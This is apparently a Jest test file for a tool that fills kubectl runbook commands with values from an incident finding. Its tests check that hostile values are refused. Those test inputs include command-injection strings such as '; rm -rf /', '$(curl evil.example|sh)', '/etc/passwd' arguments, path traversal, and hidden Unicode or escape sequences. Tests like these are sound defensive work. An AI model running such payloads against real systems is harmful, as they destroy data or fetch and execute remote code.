import { entityOf } from '../testUtils/demoPages';
import { checkoutOutOfMemory } from '../testUtils/diagnosis';
import { fillPlaceholders } from '../fillPlaceholders';
import { findingValues } from './findingValues';
import { renderChecks } from './renderChecks';

const COMMAND =
  'kubectl --context <cluster-context> -n <namespace> logs <pod> -c <container> && kubectl rollout undo deployment/<deployment>';

const fill = (values: ReturnType<typeof findingValues>) =>
  fillPlaceholders(COMMAND, { values, language: 'bash' });

describe('findingValues', () => {
  it('fills a command with what the finding saw', () => {
    expect(fill(findingValues(checkoutOutOfMemory('en')))).toEqual({
      code: 'kubectl --context shop-prod -n shop logs checkout-586bdddb84-k8598 -c checkout && kubectl rollout undo deployment/checkout',
      missing: [],
    });
  });

  it('writes the names of values as runbooks do', () => {
    expect(findingValues(checkoutOutOfMemory('en')).get('exit-code')).toBe(
      '137',
    );
  });

  it('takes no value whose name may mean anything', () => {
    const { subject } = checkoutOutOfMemory('en');
    const values = findingValues({
      subject,
      values: { name: 'x', what: 'y', namespace: 'other' },
    });
    expect(values.has('name')).toBe(false);
    expect(values.has('what')).toBe(false);
    expect(values.get('namespace')).toBe('shop');
  });

  it('takes the context of the catalog for its own environment alone', () => {
    const entity = entityOf({
      placeholders: new Map([['cluster-context', 'admin@prod']]),
    });
    const finding = checkoutOutOfMemory('en');
    const contextOf = (environment: string) =>
      findingValues(
        {
          ...finding,
          subject: {
            ...finding.subject,
            environment,
            instance: `i-${environment}`,
          },
        },
        { entity, environment: 'prod' },
      ).get('cluster-context');
    expect(contextOf('prod')).toBe('admin@prod');
    expect(contextOf('stage')).toBe('i-stage');
  });

  it.each([
    '; rm -rf /',
    '$(curl evil.example|sh)',
    '`id`',
    'a\nrm -rf /',
    'a b',
    "a'b",
    'a"b',
    '-o=/etc/passwd',
    'поды',
    'ch\u0435ckout',
    'a\u202eb',
    '../../etc',
    '<namespace>',
    'x'.repeat(300),
  ])('leaves the placeholder for the name %j', hostile => {
    const finding = checkoutOutOfMemory('en');
    const values = findingValues({
      subject: {
        ...finding.subject,
        name: hostile,
        namespace: hostile,
        instance: hostile,
      },
      values: { pod: hostile, container: hostile },
    });
    const { code, missing } = fill(values);
    expect(missing).toEqual(
      expect.arrayContaining(['namespace', 'pod', 'container', 'deployment']),
    );
    expect(code).not.toContain(hostile.replace('<namespace>', '<never>'));
    const allowed = COMMAND.replace(
      '<cluster-context>',
      /<cluster-context>/.test(code) ? '<cluster-context>' : hostile,
    );
    expect(code).toBe(allowed);
  });
});

describe('renderChecks', () => {
  const values = findingValues(checkoutOutOfMemory('en'));

  it('puts the context into a command', () => {
    expect(
      renderChecks(
        [{ text: 'Look.', command: 'kubectl get pods -n shop' }],
        values,
      ),
    ).toBe(
      '1. Look.\n\n   ```bash\n   kubectl --context shop-prod get pods -n shop\n   ```',
    );
  });

  it('leaves the context open where it is not known', () => {
    expect(
      renderChecks([{ text: 'Look.', command: 'kubectl get pods' }], new Map()),
    ).toContain('kubectl --context <cluster-context> get pods');
  });

  it.each([
    'kubectl get pods\nrm -rf /',
    'kubectl get pods\r\u001b[2K',
    'kubectl get \u202epods',
    `kubectl get ${'x'.repeat(600)}`,
  ])('shows no command that hides something: %j', command => {
    expect(renderChecks([{ text: 'Look.', command }], values)).toBe('1. Look.');
  });

  it('lets no command out of its block', () => {
    const text = renderChecks(
      [{ text: 'Look.', command: 'echo ``` # [^1]' }],
      values,
    );
    expect(text).toMatch(/````bash\n {3}echo ``` # \[\^1\]\n {3}````$/);
  });
});
